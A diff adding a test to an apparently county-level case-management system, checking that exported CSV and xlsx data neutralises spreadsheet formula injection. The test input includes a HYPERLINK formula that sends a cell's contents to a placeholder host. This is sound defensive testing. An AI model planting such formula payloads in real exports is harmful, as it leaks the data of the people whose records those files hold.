@@ -290,3 +290,23 @@ async def test_the_county_reports_192_found_and_169_resolved_read_as_88_percent_
     assert total["resolution_rate"] == 0.8802 and total["satisfaction_rate"] == 0.96
     html = await (await people.leader.client.get("/dashboard?date_from=2025-01-01&date_to=2025-12-31")).text()
     assert "化解率 88.0%" in html and ">96.0%<" in html
+
+
+async def test_text_that_looks_like_a_formula_is_exported_as_text(
+    runtime: Runtime, county: County, people: People
+) -> None:
+    summary = '=HYPERLINK("http://example.invalid/?d="&A1,"点此查看")'
+    await people.staff_a.client.post_json(
+        "/api/v1/cases",
+        {"channel": "walk_in", "summary": summary, "township_id": county.township_a, "caller_name": "@SUM(1)"},
+        expect=201,
+    )
+    leader = people.leader.client
+    [row] = await export(leader, "2024-12-31", "2024-12-31")
+    assert row["诉求摘要"] == "'" + summary and row["姓名"] == "'@SUM(1)"
+    response = await leader.get("/api/v1/cases/export.xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(await response.read()))["台账"]
+    header = [cell.value for cell in sheet[1]]
+    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert (cells["诉求摘要"].value, cells["诉求摘要"].data_type) == (summary, "s")
+    assert (cells["姓名"].value, cells["姓名"].data_type) == ("@SUM(1)", "s")
